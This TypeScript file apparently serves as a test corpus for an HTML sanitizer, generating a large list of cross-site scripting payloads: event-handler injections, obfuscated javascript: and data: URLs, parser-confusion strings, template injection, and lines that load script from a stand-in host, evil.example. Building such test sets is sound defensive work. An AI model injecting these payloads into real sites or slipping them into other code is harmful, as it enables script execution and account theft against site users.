// Attacks on whoever shows what somebody else wrote: made from parts, so that every way of hiding meets every payload.

const calls = ['alert(1)', 'window.__xss=1', 'import("//evil.example/x.js")']

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationend',
]

const carriers: ((handler: string, call: string) => string)[] = [
  (handler, call) => `<img src=x ${handler}=${call}>`,
  (handler, call) => `<img src="/files/a.webp" ${handler}="${call}">`,
  (handler, call) => `<svg ${handler}=${call}>`,
  (handler, call) => `<svg><animate ${handler}=${call} attributeName=x dur=1s>`,
  (handler, call) => `<p ${handler}="${call}" tabindex=1 autofocus>文字</p>`,
  (handler, call) => `<a href="/about" ${handler.toUpperCase()}='${call}'>链接</a>`,
  (handler, call) => `<details open ${handler}=${call}><summary>x</summary></details>`,
  (handler, call) => `<video><source ${handler}=${call}></video>`,
  (handler, call) => `<input ${handler}=${call} autofocus>`,
  (handler, call) => `<body ${handler}=${call}>`,
  (handler, call) => `<table background="javascript:${call}" ${handler}=${call}><tr><td>x</td></tr></table>`,
  (handler, call) => `<img/src=x/${handler}=${call}//`,
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'java&Tab;script:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,',
  'blob:',
  'file:///',
  '//evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example/',
]

const places: ((target: string) => string)[] = [
  (target) => `<a href="${target}">点我</a>`,
  (target) => `<a href='${target}'>点我</a>`,
  (target) => `<a href=${target}>点我</a>`,
  (target) => `<img src="${target}">`,
  (target) => `<iframe src="${target}"></iframe>`,
  (target) => `<form action="${target}"><button>提交</button></form>`,
  (target) => `<object data="${target}"></object>`,
  (target) => `<embed src="${target}">`,
]

const others = [
  ...calls.flatMap((call) => [
    `<script>${call}</script>`,
    `<SCRIPT SRC="//evil.example/x.js"></SCRIPT>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<script\u0000>${call}</script>`,
    `"><script>${call}</script>`,
    `';${call}//`,
    `</script><script>${call}</script>`,
    `</title><script>${call}</script>`,
    `]]><script>${call}</script>`,
    `--><script>${call}</script>`,
    `<!--><img src=x onerror=${call}>-->`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
    `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
    `<style>@import'javascript:${call}';</style>`,
    `<p style="background:url(javascript:${call})">x</p>`,
    `<p style="position:fixed;inset:0;z-index:9999">盖住整页</p>`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<base href="//evil.example/">`,
    `<template><script>${call}</script></template>`,
    `<textarea><img src=x onerror=${call}></textarea>`,
    `<select><option><img src=x onerror=${call}></select>`,
    `<svg><style><img src=x onerror=${call}></style></svg>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${call}>"/></svg>`,
    `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
    `<plaintext><img src=x onerror=${call}>`,
    `<a href="/x" onclick="${call}" style="all:unset">x</a>`,
    `<img src="/files/a.webp" alt="&quot;&gt;&lt;script&gt;${call}&lt;/script&gt;">`,
    `<p>&lt;script&gt;${call}&lt;/script&gt;</p>`,
    `＜script＞${call}＜/script＞`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
  ]),
]

/** For rich text and for every plain field: none of these may ever run, wherever it is shown. */
export const hostileMarkup: readonly string[] = [
  ...handlers.flatMap((handler) => carriers.flatMap((carry) => calls.map((call) => carry(handler, call)))),
  ...schemes.flatMap((scheme) => places.map((place) => place(`${scheme}alert(1)`))),
  ...others,
]
